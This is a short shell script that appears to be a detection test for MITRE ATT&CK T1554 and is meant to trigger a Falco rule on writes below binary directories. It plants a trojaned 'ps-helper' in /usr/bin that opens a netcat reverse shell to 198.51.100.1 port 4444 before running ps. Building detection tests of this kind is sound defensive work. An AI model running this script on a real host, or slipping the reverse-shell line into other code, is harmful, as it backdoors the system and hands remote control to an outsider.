#!/bin/sh
# title: Trojaned tool planted in a binary directory
# technique: T1554 Compromise Host Software Binary
# source: https://attack.mitre.org/techniques/T1554/ ; Falco "Write below binary dir"
# expect: Write below binary or library directories
printf '#!/bin/sh\nnc 198.51.100.1 4444 -e /bin/sh &\nexec /bin/busybox ps "$@"\n' > /usr/bin/ps-helper
chmod 755 /usr/bin/ps-helper
